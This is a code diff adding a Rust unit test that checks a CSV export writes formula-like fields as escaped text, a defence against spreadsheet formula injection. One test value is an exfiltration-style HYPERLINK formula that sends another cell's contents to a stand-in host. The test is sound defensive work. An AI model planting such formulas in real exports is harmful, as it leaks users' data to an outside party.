@@ -77,3 +77,25 @@ fn a_resumed_file_ends_at_its_last_whole_line() {
     let (end, line) = whole(&csv);
     assert_eq!((end, last_position(&line)), (csv.len() as u64, Some(7)));
 }
+
+/// A field a spreadsheet would evaluate (a correlation id a client sent as a formula) is
+/// written as text; before, opening the export ran it with the other rows in reach.
+#[test]
+fn csv_fields_that_look_like_formulas_are_written_as_text() {
+    let mut e = entry(serde_json::json!({}));
+    e.correlation_id = "=HYPERLINK(\"https://example.invalid/?\"&M5)".into();
+    e.causation_id = "@SUM(1+1)".into();
+    e.actor = "-2+3".into();
+    e.traceparent = "+1".into();
+    let csv = e.csv_line();
+    let fields: Vec<&str> = csv.splitn(13, ',').collect();
+    assert_eq!(fields[8], "'-2+3");
+    assert_eq!(
+        fields[9],
+        "\"'=HYPERLINK(\"\"https://example.invalid/?\"\"&M5)\""
+    );
+    assert_eq!(fields[10], "'@SUM(1+1)");
+    assert_eq!(fields[11], "'+1");
+    // The resumable position stays a plain number.
+    assert!(csv.starts_with("7,order,a,2,"), "{csv}");
+}
